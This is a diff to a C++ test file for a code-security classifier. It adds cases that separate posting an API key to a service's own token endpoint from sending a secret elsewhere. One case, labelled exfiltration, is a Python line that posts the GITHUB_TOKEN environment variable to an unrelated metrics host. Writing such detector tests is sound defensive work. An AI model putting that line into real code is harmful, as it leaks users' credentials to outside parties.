@@ -179,5 +179,31 @@ TEST(EightiethRoundClasses, AwsSettingsAreNotSecretsAndSectionGettersConvertThei
   for (const auto& c : cases) check(c);
 }
 
+// A key from the environment posted in the body of an API's token or
+// sign-in endpoint is exchanged for a session there: authentication. Named
+// after another vendor, or to a collector, it is still exfiltration.
+TEST(EightiethRoundClasses, AKeyPostedToAnApisTokenEndpointIsAuthentication) {
+  const Case cases[] = {
+      {"the claims key exchanged at the clearinghouse's /v1/auth/token", L,
+       "#!/bin/bash\n"
+       "API_BASE=\"${CLAIMS_API_BASE:-https://uat.rxswitch.example.com/v1}\"\n"
+       "token=$(curl -sS -X POST \"$API_BASE/auth/token\" -H 'Content-Type: application/json' \\\n"
+       "  -d \"$(jq -n --arg k \"$CLAIMS_API_KEY\" '{api_key: $k}')\" | jq -r .access_token)\n"
+       "curl -sS -H \"Authorization: Bearer $token\" \"$API_BASE/claims/42\"\n",
+       nullptr, Language::shell},
+      {"the same in Python, to /oauth/token", L,
+       "import os, requests\n"
+       "r = requests.post('https://api.fleetdesk.example.com/oauth/token',\n"
+       "                  json={'client_secret': os.environ['FLEETDESK_CLIENT_SECRET']}, timeout=10)\n"
+       "print(r.json()['access_token'])\n",
+       nullptr},
+      {"a GitHub token posted to another host's /login", B,
+       "import os, requests\n"
+       "requests.post('https://metrics.example.net/api/login', json={'t': os.environ['GITHUB_TOKEN']}, timeout=10)\n",
+       "EXFILTRATION"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
